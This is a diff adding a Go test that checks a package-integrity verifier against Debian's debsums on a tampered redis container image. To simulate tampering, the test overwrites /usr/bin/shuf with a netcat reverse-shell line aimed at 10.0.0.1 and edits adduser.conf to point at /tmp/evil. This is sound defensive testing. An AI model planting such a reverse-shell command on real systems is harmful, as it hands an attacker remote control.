@@ -1,0 +1,227 @@
+package pkgdb
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/md5"
+	"encoding/hex"
+	"io/fs"
+	"os"
+	"os/exec"
+	"path"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/auditor-dev/auditor/internal/fleettest"
+)
+
+// needTool returns the path of an outside tool the test needs; without
+// it the test is skipped, or fails under CI, which installs it.
+func needTool(t *testing.T, name string) string {
+	t.Helper()
+	p, err := exec.LookPath(name)
+	if err != nil {
+		if os.Getenv("CI") != "" {
+			t.Fatalf("%s is not installed: .ci/run installs it", name)
+		}
+		t.Skipf("%s not installed", name)
+	}
+	return p
+}
+
+// TestDebsumsOracle compares Verify with Debian's debsums over the same
+// rootfs: the fleet's apps/redis:7.0 (Debian, four layers, a conffile the
+// image changed), unpacked by umoci on the oracle side only, then tampered:
+// a binary rewritten, one deleted, a conffile edited, a file replaced by a
+// directory, and a dpkg path-exclude for the docs the image trimmed. Every
+// md5 record of every installed package must get the verdict debsums gives.
+func TestDebsumsOracle(t *testing.T) {
+	umoci := needTool(t, "umoci")
+	debsums := needTool(t, "debsums")
+	layout := filepath.Join(fleettest.Dir(t), "images", "oci")
+	if _, err := os.Stat(layout); err != nil {
+		if os.Getenv("CI") != "" {
+			t.Fatal(err)
+		}
+		t.Skipf("fleet layout (set FLEET_SHARED): %v", err)
+	}
+	bundle := filepath.Join(t.TempDir(), "bundle")
+	args := []string{"unpack", "--image", layout + ":redis-7.0", bundle}
+	if os.Geteuid() != 0 {
+		args = append(args[:1], append([]string{"--rootless"}, args[1:]...)...)
+	}
+	if out, err := exec.Command(umoci, args...).CombinedOutput(); err != nil {
+		t.Fatalf("umoci %v: %v\n%s", args, err, out)
+	}
+	root := filepath.Join(bundle, "rootfs")
+	at := func(p string) string { return filepath.Join(root, filepath.FromSlash(p)) }
+	must := func(err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	must(os.WriteFile(at("/usr/bin/shuf"), []byte("#!/bin/sh\nexec nc -e /bin/sh 10.0.0.1 4444\n"), 0o755))
+	must(os.Remove(at("/usr/bin/shred")))
+	must(os.Remove(at("/usr/bin/tac")))
+	must(os.Mkdir(at("/usr/bin/tac"), 0o755))
+	conf, err := os.OpenFile(at("/etc/adduser.conf"), os.O_APPEND|os.O_WRONLY, 0)
+	must(err)
+	_, err = conf.WriteString("\nSKEL=/tmp/evil\n")
+	must(err)
+	must(conf.Close())
+	must(os.MkdirAll(at(DpkgConfigD), 0o755))
+	must(os.WriteFile(at(DpkgConfigD+"/docker"), []byte("path-exclude /usr/share/doc/*\npath-include /usr/share/doc/*/copyright\n"), 0o644))
+
+	// The oracle.
+	cmd := exec.Command(debsums, "-a", "--root", root)
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	if err := cmd.Run(); err != nil {
+		if _, ok := err.(*exec.ExitError); !ok { // debsums exits 2 when it found changes
+			t.Fatal(err)
+		}
+	}
+	oracle := map[string]Status{}
+	okLine := regexp.MustCompile(`^(\S+)\s+(OK|FAILED)$`)
+	sc := bufio.NewScanner(&stdout)
+	for sc.Scan() {
+		m := okLine.FindStringSubmatch(sc.Text())
+		if m == nil {
+			t.Fatalf("debsums stdout: %q", sc.Text())
+		}
+		st := OK
+		if m[2] == "FAILED" {
+			st = Modified
+		}
+		oracle[strings.TrimPrefix(m[1], root)] = st
+	}
+	missingLine := regexp.MustCompile(`^debsums: missing file (\S+) \(from \S+ package\)$`)
+	notRegular := regexp.MustCompile(`^debsums: can't check \S+ file (\S+) \(not a regular file\)$`)
+	sc = bufio.NewScanner(&stderr)
+	for sc.Scan() {
+		if m := missingLine.FindStringSubmatch(sc.Text()); m != nil {
+			oracle[strings.TrimPrefix(m[1], root)] = Missing
+		} else if m := notRegular.FindStringSubmatch(sc.Text()); m != nil {
+			oracle[strings.TrimPrefix(m[1], root)] = Modified
+		} else {
+			t.Fatalf("debsums stderr: %q", sc.Text())
+		}
+	}
+
+	// pkgdb over the same files.
+	files := map[string][]byte{}
+	for _, dir := range []string{"/var/lib/dpkg", "/etc/dpkg"} {
+		must(filepath.WalkDir(at(dir), func(p string, d fs.DirEntry, err error) error {
+			if err != nil || !d.Type().IsRegular() {
+				return err
+			}
+			ip := "/" + filepath.ToSlash(strings.TrimPrefix(p, root+string(filepath.Separator)))
+			if IsDpkgPath(ip) {
+				b, err := os.ReadFile(p)
+				files[ip] = b
+				return err
+			}
+			return nil
+		}))
+	}
+	db, err := ReadDpkg(files, DefaultLimits)
+	must(err)
+	ours := map[string]Status{}
+	conffile := map[string]bool{}
+	for _, p := range db.Packages {
+		if !p.Installed {
+			continue
+		}
+		for _, f := range p.Files {
+			if f.Digest == "" {
+				continue
+			}
+			o := observeDir(t, root, f.Path)
+			o.Excluded = db.Filters.Excluded(f.Path, false)
+			_, o.Diverted = DivertedTo(db.Diversions, f.Path, p.Name)
+			ours[f.Path] = Verify(f, o)
+			conffile[f.Path] = f.Flags&Conffile != 0
+		}
+	}
+
+	counts := map[Status]int{}
+	for p, st := range ours {
+		counts[st]++
+		want, judged := oracle[p]
+		switch {
+		case st == Excluded:
+			if judged {
+				t.Errorf("%s: excluded, debsums says %s", p, want)
+			}
+		case !judged:
+			t.Errorf("%s: %s, debsums did not check it", p, st)
+		case st == ConffileModified:
+			if want != Modified || !conffile[p] {
+				t.Errorf("%s: conffile-modified, debsums says %s", p, want)
+			}
+		case st != want:
+			t.Errorf("%s: %s, debsums says %s", p, st, want)
+		}
+	}
+	for p, want := range oracle {
+		if _, ok := ours[p]; !ok {
+			t.Errorf("%s: debsums says %s, pkgdb has no record", p, want)
+		}
+	}
+	for p, want := range map[string]Status{
+		"/usr/bin/shuf":               Modified,
+		"/usr/bin/shred":              Missing,
+		"/usr/bin/tac":                Modified,
+		"/etc/adduser.conf":           ConffileModified,
+		"/etc/redis/redis.conf":       ConffileModified, // the image's own change
+		"/bin/ls":                     OK,
+		"/usr/share/doc/adduser/TODO": Excluded,
+	} {
+		if ours[p] != want {
+			t.Errorf("%s: %s, want %s", p, ours[p], want)
+		}
+	}
+	if counts[OK] < 2500 || counts[Missing] == 0 || counts[Excluded] < 100 {
+		t.Errorf("verdicts %v", counts)
+	}
+}
+
+// observeDir is what the unpacked rootfs holds at p, resolved inside root
+// as debsums does (parents and the final symlink followed, clamped at the
+// root).
+func observeDir(t *testing.T, root, p string) Observed {
+	t.Helper()
+	lookup := func(q string) entry {
+		fi, err := os.Lstat(filepath.Join(root, filepath.FromSlash(q)))
+		switch {
+		case err != nil:
+			return entry{}
+		case fi.Mode()&fs.ModeSymlink != 0:
+			target, err := os.Readlink(filepath.Join(root, filepath.FromSlash(q)))
+			if err != nil {
+				t.Fatal(err)
+			}
+			return entry{kind: Link, linkTarget: target}
+		case fi.IsDir():
+			return entry{kind: Directory}
+		case fi.Mode().IsRegular():
+			return entry{kind: Regular}
+		}
+		return entry{kind: Other}
+	}
+	r := resolve(p, true, lookup)
+	e := lookup(r)
+	o := Observed{Kind: e.kind, LinkTarget: e.linkTarget}
+	if e.kind == Regular {
+		b, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(path.Clean(r))))
+		if err != nil {
+			t.Fatal(err)
+		}
+		m := md5.Sum(b)
+		o.MD5 = hex.EncodeToString(m[:])
+	}
+	return o
+}
